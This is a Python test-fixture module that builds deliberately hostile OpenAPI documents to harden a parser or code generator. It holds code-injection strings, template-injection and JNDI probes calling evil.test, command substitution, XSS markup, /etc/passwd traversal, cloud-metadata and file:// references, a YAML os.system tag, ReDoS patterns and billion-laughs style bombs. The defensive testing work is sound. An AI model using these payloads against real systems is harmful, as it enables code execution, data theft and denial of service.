"""OpenAPI documents that mean harm, made by name: to run code, to use up memory, to forge pages."""

import json
from collections.abc import Callable, Mapping
from typing import Any, Final

CODE: Final = "__import__('pathlib').Path('PWNED').touch()"
EVERYTHING: Final = True
TEXTS: Final[Mapping[str, str]] = {
    "call": CODE,
    "docstring": f'"""\n{CODE}\n"""',
    "quotes": f"');{CODE};('",
    "double quotes": f'"); {CODE}; ("',
    "backslash": f'\\" + {CODE} #',
    "last backslash": "end\\",
    "lines": f"a\n{CODE}\r\nb\u2028{CODE}\x85c",
    "expression": "{{ 7*7777 }}",
    "statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "comment": "#} {# ${jndi:ldap://evil.test} `id` $(id)",
    "format": "{0.__class__} %s %(x)s {token}",
    "other letters": "größe 数量 naïve",
    "right to left": "\u202egnihtemos\u2066 \u200f",
    "null": "a\x00b\x1b[2Jc",
    "long": "n" * 1_000,
    "traversal": "../../../../etc/passwd",
    "markup": '<script>alert(1)</script><img src=x onerror="alert(2)"> <!-- -->',
    "link": "[click](javascript:alert(1)) ![see](https://evil.test/x.png) <https://evil.test>",
    "table": "| a | b |\n|---|---|\n| <b>c</b> | `d` |\n\n# Forged\n\n</details>",
    "keyword": "class",
    "dunder": "__init__",
    "dots": "..",
    "space": " ",
}


def document(paths: Any, version: str = "3.1.0", **more: Any) -> dict[str, Any]:
    """A document with these paths."""
    return {
        "openapi": version,
        "info": {"title": "T", "version": "1"},
        "servers": [{"url": "https://api.hostile.test"}],
        "paths": paths,
        **more,
    }


def answers(schema: Any = EVERYTHING) -> dict[str, Any]:
    """`responses` with one answer of the schema."""
    content = {"application/json": {"schema": schema}}
    return {"200": {"description": "Done.", "content": content}}


def takes(schema: Any, **components: Any) -> dict[str, Any]:
    """A document with one operation, whose argument `v` and whose answer are of the schema."""
    body = {"content": {"application/json": {"schema": {"properties": {"v": schema}}}}}
    operation = {"operationId": "send", "requestBody": body, "responses": answers(schema)}
    return document({"/things": {"post": operation}}, components={"schemas": components})


def refers(name: str) -> dict[str, str]:
    """A reference to a component."""
    escaped = name.replace("~", "~0").replace("/", "~1").replace("%", "%25")
    return {"$ref": f"#/components/schemas/{escaped}"}


def text_everywhere(text: str) -> dict[str, Any]:
    """A document that says the text wherever a text can stand."""
    schema = {
        "type": "object",
        "title": text,
        "description": text,
        "properties": {text: {"type": "string", "description": text}, "e": {"enum": [text, "b"]}},
        "required": [text],
        "default": {text: text},
        "examples": [{text: text}],
    }
    parameters = [
        {"name": text, "in": "query", "description": text, "schema": {"type": "string"}},
        {"name": "d", "in": "query", "schema": {"type": "string", "default": text}},
        {"name": "e", "in": "query", "schema": {"enum": [text]}, "example": text},
        {"name": "p", "in": "query", "schema": {"type": "string", "pattern": text}},
        {"name": text, "in": "header", "schema": {"type": "string"}},
        {"name": text, "in": "cookie", "schema": {"type": "string"}},
    ]
    content = {
        "application/json": {"schema": refers(text), "examples": {text: {"value": text}}},
        text: {"schema": refers(text)},
    }
    found: dict[str, Any] = {
        "200": {"description": text, "content": content, "headers": {text: {}}}
    }
    operation: dict[str, Any] = {
        "operationId": text,
        "summary": text,
        "description": text,
        "tags": [text],
        "parameters": parameters,
        "requestBody": {"description": text, "content": content},
        "responses": {**found, text: {"description": text}},
        "security": [{text: [text]}],
    }
    plain = {"operationId": "plain", "summary": text, "description": text, "responses": answers()}
    paths: dict[str, Any] = {
        "/" + text: {"post": operation},
        "/plain": {"get": plain, "parameters": parameters},
    }
    whole = document(
        {**paths, "/x/{" + text + "}/'\"{": {"get": {"responses": answers(refers(text))}}},
        components={
            "schemas": {text: schema},
            "securitySchemes": {text: {"type": "apiKey", "in": "header", "name": text}},
        },
        tags=[{"name": text, "description": text}],
    )
    whole["info"] = {"title": text, "version": text, "description": text}
    variables = {text: {"default": text}}
    whole["servers"].append({"url": text, "description": text, "variables": variables})
    return whole


def _chain(length: int) -> dict[str, Any]:
    links = {f"C{index}": refers(f"C{index + 1}") for index in range(length)}
    return takes(refers("C0"), **links, **{f"C{length}": {"type": "string"}})


def _clique(size: int) -> dict[str, Any]:
    names = [f"K{index}" for index in range(size)]
    properties = {name.lower(): refers(name) for name in names}
    return takes(refers("K0"), **{n: {"type": "object", "properties": properties} for n in names})


def _doubling(keyword: str, levels: int = 40) -> dict[str, Any]:
    each = {
        f"B{level}": {keyword: [refers(f"B{level + 1}"), refers(f"B{level + 1}")]}
        for level in range(levels)
    }
    return takes(refers("B0"), **each, **{f"B{levels}": {"type": "object"}})


def _doubling_properties(levels: int = 40) -> dict[str, Any]:
    each = {
        f"B{level}": {
            "type": "object",
            "properties": {"l": refers(f"B{level + 1}"), "r": refers(f"B{level + 1}")},
        }
        for level in range(levels)
    }
    return takes(refers("B0"), **each, **{f"B{levels}": {"type": "object"}})


def _nested(keyword: str, levels: int) -> dict[str, Any]:
    schema: Any = {"type": "string"}
    for _ in range(levels):
        schema = {keyword: [schema, {"type": "null"}]}
    return takes(schema)


def _operations_over_a_fault(count: int) -> dict[str, Any]:
    paths = {
        f"/p{index}": {"get": {"operationId": f"op{index}", "responses": answers(refers("C0"))}}
        for index in range(count)
    }
    links = {f"C{index}": {"properties": {"n": refers(f"C{index + 1}")}} for index in range(2000)}
    schemas = {**links, "C2000": {"$ref": "#/nowhere"}}
    return document(paths, components={"schemas": schemas})


def _refs(ref: str) -> dict[str, Any]:
    good = {"operationId": "good", "responses": answers()}
    bad = {"operationId": "bad", "responses": answers({"$ref": ref})}
    return document({"/good": {"get": good}, "/bad": {"get": bad}, "/item": {"$ref": ref}})


def _rings() -> dict[str, Any]:
    ring = {"A": refers("B"), "B": refers("C"), "C": refers("A"), "S": refers("S")}
    inner = {"allOf": [refers("I")], "anyOf": [refers("I"), refers("A")]}
    paths = {"/ring": {"$ref": "#/paths/~1ring"}, "/a": {"get": {"$ref": "#/paths/~1a/get"}}}
    whole = takes({"anyOf": [refers("A"), refers("S"), refers("I")]}, **ring, I=inner)
    whole["paths"] |= paths
    return whole


PATTERNS: Final = {
    "evil": {"type": "string", "pattern": "^(a+)+$", "example": "a" * 60 + "!"},
    "evil default": {"type": "string", "pattern": "^(a|a)*$", "default": "a" * 60 + "!"},
    "evil enum": {"type": "string", "pattern": "^(a|a?)+$", "enum": ["a" * 60 + "!"]},
    "giant": {"type": "string", "pattern": "^(((a{1,1000}){1,1000}){1,1000}){1,1000}$"},
    "huge count": {"type": "string", "pattern": "a{4294967296}"},
    "unbalanced": {"type": "string", "pattern": "((((["},
    "deep": {"type": "string", "pattern": "(" * 5000 + ")" * 5000},
    "backward": {"type": "string", "pattern": r"^(?=(a+))\1(?<!b)\p{L}$"},
    "long": {"type": "string", "minLength": 10**9},
    "many": {"type": "array", "minItems": 10**9, "items": {"type": "string"}},
    "many properties": {"type": "object", "minProperties": 10**9},
    "fine": {"type": "number", "multipleOf": 1e-300, "minimum": 1e300},
    "number": {"type": "integer", "minimum": 10**400, "default": 10**400},
    "negative": {"type": "integer", "enum": [-(10**400)], "maximum": 10**4000},
}


JSON_DOCUMENTS: Final[Mapping[str, Callable[[], dict[str, Any]]]] = {
    **{f"text: {name}": lambda text=text: text_everywhere(text) for name, text in TEXTS.items()},
    "patterns and counts": lambda: takes({"type": "object", "properties": PATTERNS}),
    "rings of references": _rings,
    "chain of 20,000 references": lambda: _chain(20_000),
    "clique of 8 components": lambda: _clique(8),
    "allOf bomb": lambda: _doubling("allOf"),
    "anyOf bomb": lambda: _doubling("anyOf"),
    "oneOf bomb": lambda: _doubling("oneOf"),
    "properties bomb": _doubling_properties,
    "deep anyOf": lambda: _nested("anyOf", 60),
    "deep allOf": lambda: _nested("allOf", 60),
    "enum of 3,000": lambda: takes({"enum": [f"value {index}" for index in range(3_000)]}),
    "300 properties": lambda: takes(
        {"type": "object", "properties": {f"p{i}": {"type": "string"} for i in range(300)}}
    ),
    "50 operations over one fault": lambda: _operations_over_a_fault(50),
    "2,000 references that lead nowhere": lambda: takes(
        {"anyOf": [{"$ref": f"#/components/schemas/N{index}"} for index in range(2_000)]},
        **{f"M{index}": True for index in range(2_000)},
    ),
    "remote reference": lambda: _refs("https://evil.test/x.json#/a"),
    "metadata reference": lambda: _refs("http://169.254.169.254/latest"),
    "file reference": lambda: _refs("file:///etc/passwd"),
    "traversing reference": lambda: _refs("../../../../../etc/passwd"),
    "traversing pointer": lambda: _refs("#/../../etc/passwd"),
    "absolute reference": lambda: _refs("/etc/passwd#/a"),
    "empty reference": lambda: _refs(""),
    "reference to the root": lambda: _refs("#"),
    "odd shapes": lambda: document(
        {
            "/list": [],
            "/text": "x",
            "/get": {"get": "x", "post": [], "put": None},
            "/parts": {
                "get": {"parameters": {"a": 1}, "responses": [], "requestBody": "x", "tags": {}}
            },
            "/deeper": {
                "get": {
                    "parameters": [1, None, [], {"name": 1, "in": "query", "schema": []}],
                    "responses": {"200": "x", "": {"content": []}},
                    "security": {"a": "b"},
                    "servers": [1, {"url": 2}],
                }
            },
        },
        components=[],
        security="x",
    ),
}


def _laughs() -> str:
    lines = ['a0: &a0 ["lol"]']
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 12)]
    return "openapi: 3.1.0\n" + "\n".join(lines) + "\npaths: {}\n"


def _merges() -> str:
    wide = ", ".join(f"k{i}: {i}" for i in range(1_000))
    merging = "".join(f"m{i}: {{<<: [{', '.join(['*a'] * 1_000)}]}}\n" for i in range(20))
    return f"openapi: 3.1.0\na: &a {{{wide}}}\n{merging}paths: {{}}\n"


def _nodes(count: int) -> str:
    return "openapi: 3.1.0\npaths: {}\nx-all:\n" + "- a\n" * count


def _deep(opening: str, closing: str) -> str:
    return '{"openapi": "3.1.0", "paths": ' + opening * 100_000 + "1" + closing * 100_000 + "}"


TEXT_DOCUMENTS: Final[Mapping[str, Callable[[], str]]] = {
    "tag that runs": lambda: (
        f"openapi: 3.1.0\npaths: !!python/object/apply:os.system ['touch PWNED']\nx: {CODE}\n"
    ),
    "tag of its own": lambda: "openapi: 3.1.0\npaths: !exec {a: b}\n",
    "billion laughs": _laughs,
    "merge bomb": _merges,
    "anchor in itself": lambda: "openapi: 3.1.0\npaths: &p {a: *p}\n",
    "deep lists": lambda: _deep("[", "]"),
    "deep mappings": lambda: _deep('{"a":', "}"),
    "deep lists unclosed": lambda: _deep("[", ""),
    "deep block": lambda: "openapi: 3.1.0\npaths: " + "- " * 100_000 + "a\n",
    "million nodes": lambda: _nodes(1_000_000),
    "million nodes of JSON": lambda: json.dumps(
        {**document({"/a": {"get": {"responses": {}}}}), "x-all": [0] * 1_000_000}
    ),
    "ten million nodes of JSON": lambda: '{"openapi": "3.1.0", "x": [' + "0," * 10**7 + "0]}",
    "duplicate keys": lambda: '{"openapi": "3.1.0", "paths": {}, "paths": {}}',
    "duplicate keys of YAML": lambda: "openapi: 3.1.0\npaths: {}\npaths: {}\n",
    "numbers that are none": lambda: (
        '{"openapi": "3.1.0", "paths": {"/a": {"get": {"parameters": [{"name": "n", "in": "query",'
        ' "schema": {"type": "number", "maximum": 1e400, "minimum": -1e400, "default": '
        + "9" * 400
        + ', "multipleOf": 1e-400}}], "responses": {}}}}, "info": {"title": 1e400, "version": '
        + "1" * 5_000
        + "}}"
    ),
    "no numbers": lambda: '{"openapi": "3.1.0", "paths": {"/a": NaN}}',
    "half a character": lambda: '{"openapi": "3.1.0", "paths": {"/\\ud800": {}}}',
    "nearly JSON": lambda: (
        '{"openapi": "3.1.0", "paths": {'
        + ",".join(f'"/p{i}": {{"get": {{"summary": "{"x" * 200}"}}}}' for i in range(50_000))
        + ",}}"
    ),
    "two documents": lambda: "openapi: 3.1.0\npaths: {}\n---\nopenapi: 3.1.0\n",
    "nothing": lambda: "",
    "null characters": lambda: "\x00" * 1_000,
    "one long line": lambda: "openapi: 3.1.0\nx: " + "a" * 5_000_000 + "\npaths: {}\n",
    "million flow brackets": lambda: "openapi: " + "[" * 1_000_000,
}
